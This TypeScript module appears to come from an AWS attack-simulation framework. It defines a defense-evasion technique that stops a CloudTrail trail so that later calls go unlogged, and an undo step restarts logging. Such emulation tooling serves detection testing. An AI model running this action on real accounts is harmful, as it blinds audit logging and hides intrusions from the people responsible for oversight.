import { z } from 'zod';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({ trailName: z.string().min(1) });

/** Stops a trail the attacker can reach, so that later calls leave no log files behind. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'defense-evasion.cloudtrail-stop',
  title: 'Stop a trail',
  purpose: 'Calls made after this are no longer delivered to the trail’s bucket.',
  mitre: ['T1562.008'],
  awsThreatTechniques: ['T1562.008'],
  sources: [
    {
      title: 'Impair Defenses: Disable or Modify Cloud Logs, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1562/008/',
    },
    {
      title: 'StopLogging, AWS CloudTrail API Reference',
      url: 'https://docs.aws.amazon.com/awscloudtrail/latest/APIReference/API_StopLogging.html',
    },
    {
      title: 'T1562.008, Threat Technique Catalog for AWS',
      url: 'https://aws-samples.github.io/threat-technique-catalog-for-aws/Techniques/T1562.008.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { trail: true },
  needs: ['cloudtrail:StopLogging'],
  leaves: [{ service: 'cloudtrail.amazonaws.com', name: 'StopLogging', outcome: 'succeeds' }],
  repeatable: true,
  async detonate({ inputs: { trailName }, aws, say }) {
    say(`Stop the trail ${trailName}`);
    await aws.cloudTrail().stopLogging({ Name: trailName });
  },
  undo: {
    kind: 'call',
    async plan({ inputs: { trailName: Name }, aws }) {
      const { IsLogging } = await aws.cloudTrail().getTrailStatus({ Name });
      return async () => {
        if (IsLogging === true) await aws.cloudTrail().startLogging({ Name });
      };
    },
  },
};
